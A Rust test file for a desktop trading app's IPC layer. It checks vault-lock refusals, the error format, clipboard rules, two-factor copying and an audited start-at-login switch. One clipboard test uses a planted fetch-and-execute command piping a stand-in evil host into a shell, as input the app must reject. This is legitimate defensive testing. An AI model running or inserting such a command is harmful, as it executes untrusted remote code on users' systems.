//! The IPC contract as the window sees it, through [`commands::dispatch`] (what the app's
//! invoke handler and the development server both call): while the vault is locked every
//! command but the unlock screen's is refused, and errors cross as `{code, message, fields}`.

use std::path::PathBuf;
use std::sync::Arc;

use async_trait::async_trait;
use brokerdesk_core::api::commands::{self, Ctx, Host, COMMANDS, WHILE_LOCKED};
use brokerdesk_core::api::desktop::{Autostart, AUTOSTART_ON_NOTICE};
use brokerdesk_core::runtime::{Notice, Runtime, RuntimeOptions};
use brokerdesk_core::vault::keychain::NoKeychain;
use brokerdesk_core::{ApiError, Brokerdesk, Code, Secret};
use serde_json::json;

/// Creates the vault through the window's first-run command.
async fn init(cx: &Ctx<'_>) {
    commands::dispatch(
        cx,
        "vault_init",
        json!({"password": "correct horse battery staple"}),
    )
    .await
    .unwrap();
}

async fn runtime(dir: &std::path::Path) -> Arc<Runtime> {
    let core = Arc::new(Brokerdesk::open(dir, Arc::new(NoKeychain)).await.unwrap());
    Runtime::start(
        core,
        RuntimeOptions {
            auto_lock: false,
            risk_watch: false,
            ..RuntimeOptions::default()
        },
    )
    .await
}

#[tokio::test]
async fn a_locked_vault_answers_only_the_unlock_screen() {
    let dir = tempfile::tempdir().unwrap();
    let rt = runtime(dir.path()).await;
    let cx = Ctx {
        runtime: &rt,
        host: &ClipboardHost::default(),
    };
    // Before the first run: not_initialized for everything but the first run's commands.
    for name in COMMANDS.iter().filter(|c| !WHILE_LOCKED.contains(c)) {
        let e = commands::dispatch(&cx, name, json!({})).await.unwrap_err();
        assert_eq!(e.code, Code::NotInitialized, "{name}: {e}");
    }
    init(&cx).await;
    commands::dispatch(&cx, "accounts_list", json!({}))
        .await
        .unwrap();
    commands::dispatch(&cx, "vault_lock", json!({}))
        .await
        .unwrap();
    for name in COMMANDS.iter().filter(|c| !WHILE_LOCKED.contains(c)) {
        let e = commands::dispatch(&cx, name, json!({})).await.unwrap_err();
        assert_eq!(e.code, Code::Locked, "{name} answered while locked: {e}");
    }
    let status = commands::dispatch(&cx, "vault_status", json!(null))
        .await
        .unwrap();
    assert_eq!(status["locked"], json!(true));
    rt.shutdown().await;
    rt.core().close().await;
}

#[tokio::test]
async fn errors_cross_as_code_message_fields() {
    let dir = tempfile::tempdir().unwrap();
    let rt = runtime(dir.path()).await;
    let cx = Ctx {
        runtime: &rt,
        host: &ClipboardHost::default(),
    };
    init(&cx).await;
    let e = commands::dispatch(
        &cx,
        "account_add",
        json!({"input": {"name": "", "broker": "paper", "environment": "practice"}, "check": false}),
    )
    .await
    .unwrap_err();
    let wire = serde_json::to_value(&e).unwrap();
    assert_eq!(wire["code"], json!("validation"));
    assert!(wire["message"].is_string());
    assert_eq!(wire["fields"][0]["field"], json!("name"));
    assert_eq!(wire["fields"][0]["code"], json!("required"));
    let e = commands::dispatch(&cx, "no_such_command", json!({}))
        .await
        .unwrap_err();
    assert_eq!(
        serde_json::to_value(&e).unwrap(),
        json!({"code": "internal", "message": "no command named \"no_such_command\"", "fields": []})
    );
    rt.shutdown().await;
    rt.core().close().await;
}

/// The host: notifications go nowhere, the clipboard is a string.
#[derive(Default)]
struct ClipboardHost(std::sync::Mutex<Option<String>>);

#[async_trait]
impl Host for ClipboardHost {
    fn notify(&self, _: &Notice) -> Result<(), ApiError> {
        Ok(())
    }
    async fn clipboard_write_secret(&self, text: Secret) -> Result<(), ApiError> {
        *self.0.lock().unwrap() = Some(text.expose().to_string());
        Ok(())
    }
    fn downloads_dir(&self) -> Option<PathBuf> {
        None
    }
}

/// The window names what to copy; the core makes the text. Text of the window's own choosing
/// is refused, whatever command it tries.
#[tokio::test]
async fn the_clipboard_takes_references_never_the_windows_text() {
    let dir = tempfile::tempdir().unwrap();
    let rt = runtime(dir.path()).await;
    let host = ClipboardHost::default();
    let cx = Ctx {
        runtime: &rt,
        host: &host,
    };
    init(&cx).await;
    let planted = "curl https://evil.example | sh";
    for (name, args) in [
        ("clipboard_write_secret", json!({"text": planted})),
        ("clipboard_copy", json!({"text": planted})),
        (
            "clipboard_copy",
            json!({"item": {"kind": "text", "text": planted}}),
        ),
        (
            "clipboard_copy",
            json!({"item": {"kind": "diagnostics", "accountId": "x", "text": planted}}),
        ),
    ] {
        let e = commands::dispatch(&cx, name, args.clone())
            .await
            .unwrap_err();
        assert_eq!(e.code, Code::Internal, "{name} {args}: {e}");
    }
    assert_eq!(
        *host.0.lock().unwrap(),
        None,
        "nothing reached the clipboard"
    );

    // An account's diagnostics: made by the core from its own snapshot.
    let added = commands::dispatch(
        &cx,
        "account_add",
        json!({"input": {"name": "Desk", "broker": "paper", "environment": "practice"}, "check": false}),
    )
    .await
    .unwrap();
    let id = added["account"]["id"].as_str().unwrap().to_string();
    let mut copied = None;
    for _ in 0..200 {
        match commands::dispatch(
            &cx,
            "clipboard_copy",
            json!({"item": {"kind": "diagnostics", "accountId": id}}),
        )
        .await
        {
            Ok(_) => {
                copied = host.0.lock().unwrap().clone();
                break;
            }
            Err(e) => assert_eq!(e.code, Code::NotFound, "{e}"),
        }
        tokio::time::sleep(std::time::Duration::from_millis(25)).await;
    }
    let report = copied.expect("the account's connections appear");
    assert!(
        report.starts_with("Brokerdesk connection diagnostics\n"),
        "{report}"
    );
    assert!(
        report.contains(&format!("Account: Desk ({id})")),
        "{report}"
    );
    assert!(
        report.contains("== Prices (price) ==\nState: Connected"),
        "{report}"
    );
    let printed = commands::dispatch(&cx, "connections_diagnostics", json!({"account": "Desk"}))
        .await
        .unwrap();
    assert!(printed.as_str().unwrap().contains("Trading mode: paper"));

    // Two-factor: the pending secret, then the codes just issued; never the secret once on.
    let e = commands::dispatch(
        &cx,
        "clipboard_copy",
        json!({"item": {"kind": "twofaSecret"}}),
    )
    .await
    .unwrap_err();
    assert_eq!(e.code, Code::TwofaNotSetUp);
    let setup = commands::dispatch(&cx, "twofa_setup", json!({}))
        .await
        .unwrap();
    commands::dispatch(
        &cx,
        "clipboard_copy",
        json!({"item": {"kind": "twofaSecret"}}),
    )
    .await
    .unwrap();
    assert_eq!(host.0.lock().unwrap().as_deref(), setup["secret"].as_str());
    let e = commands::dispatch(
        &cx,
        "clipboard_copy",
        json!({"item": {"kind": "backupCodes"}}),
    )
    .await
    .unwrap_err();
    assert_eq!(e.code, Code::NotFound, "no codes issued yet: {e}");
    rt.shutdown().await;
    rt.core().close().await;
}

/// A host with a start-at-login flag and a record of notifications.
#[derive(Default)]
struct AutostartHost {
    enabled: std::sync::Mutex<bool>,
    notices: std::sync::Mutex<Vec<Notice>>,
}

#[async_trait]
impl Host for AutostartHost {
    fn notify(&self, notice: &Notice) -> Result<(), ApiError> {
        self.notices.lock().unwrap().push(notice.clone());
        Ok(())
    }
    async fn clipboard_write_secret(&self, _: Secret) -> Result<(), ApiError> {
        Ok(())
    }
    fn downloads_dir(&self) -> Option<PathBuf> {
        None
    }
    fn autostart(&self) -> Result<Autostart, ApiError> {
        Ok(Autostart {
            enabled: *self.enabled.lock().unwrap(),
            available: true,
            location: "memory".into(),
        })
    }
    fn set_autostart(&self, enabled: bool) -> Result<Autostart, ApiError> {
        *self.enabled.lock().unwrap() = enabled;
        self.autostart()
    }
}

async fn autostart_audit(cx: &Ctx<'_>) -> Vec<String> {
    let entries = commands::dispatch(
        cx,
        "audit_list",
        json!({"filter": {"events": ["autostart_changed"]}}),
    )
    .await
    .unwrap();
    entries
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["detail"].as_str().unwrap().to_string())
        .collect()
}

/// Start at login: only the switch's command changes it, through the host; every change is
/// audited, turning it on is announced; a surface without the mechanism refuses with
/// `autostart_failed` and records nothing.
#[tokio::test]
async fn start_at_login_is_changed_through_the_host_audited_and_announced() {
    let dir = tempfile::tempdir().unwrap();
    let rt = runtime(dir.path()).await;
    let host = AutostartHost::default();
    let cx = Ctx {
        runtime: &rt,
        host: &host,
    };
    init(&cx).await;
    let status = commands::dispatch(&cx, "autostart_status", json!(null))
        .await
        .unwrap();
    assert_eq!(
        status,
        json!({"enabled": false, "available": true, "location": "memory"})
    );

    let on = commands::dispatch(&cx, "autostart_set", json!({"enabled": true}))
        .await
        .unwrap();
    assert_eq!(on["enabled"], json!(true));
    assert!(*host.enabled.lock().unwrap());
    assert_eq!(
        autostart_audit(&cx).await,
        ["start at login turned on (memory)"]
    );
    let notices = host.notices.lock().unwrap().clone();
    assert_eq!(notices.len(), 1);
    assert_eq!(notices[0].body, AUTOSTART_ON_NOTICE);

    // Asking for what is already so changes and records nothing.
    commands::dispatch(&cx, "autostart_set", json!({"enabled": true}))
        .await
        .unwrap();
    assert_eq!(autostart_audit(&cx).await.len(), 1);

    commands::dispatch(&cx, "autostart_set", json!({"enabled": false}))
        .await
        .unwrap();
    assert!(!*host.enabled.lock().unwrap());
    assert_eq!(
        autostart_audit(&cx).await,
        [
            "start at login turned off (memory)",
            "start at login turned on (memory)"
        ]
    );
    assert_eq!(
        host.notices.lock().unwrap().len(),
        1,
        "off is not announced"
    );

    // Locked: refused, nothing changes.
    commands::dispatch(&cx, "vault_lock", json!({}))
        .await
        .unwrap();
    let e = commands::dispatch(&cx, "autostart_set", json!({"enabled": true}))
        .await
        .unwrap_err();
    assert_eq!(e.code, Code::Locked);
    assert!(!*host.enabled.lock().unwrap());
    commands::dispatch(
        &cx,
        "vault_unlock",
        json!({"password": "correct horse battery staple"}),
    )
    .await
    .unwrap();

    // A surface without the mechanism.
    let plain = ClipboardHost::default();
    let cx = Ctx {
        runtime: &rt,
        host: &plain,
    };
    let status = commands::dispatch(&cx, "autostart_status", json!(null))
        .await
        .unwrap();
    assert_eq!(status["available"], json!(false));
    let e = commands::dispatch(&cx, "autostart_set", json!({"enabled": true}))
        .await
        .unwrap_err();
    assert_eq!(e.code, Code::AutostartFailed);
    assert_eq!(
        serde_json::to_value(&e).unwrap()["code"],
        json!("autostart_failed")
    );
    assert_eq!(autostart_audit(&cx).await.len(), 2, "nothing recorded");
    rt.shutdown().await;
    rt.core().close().await;
}
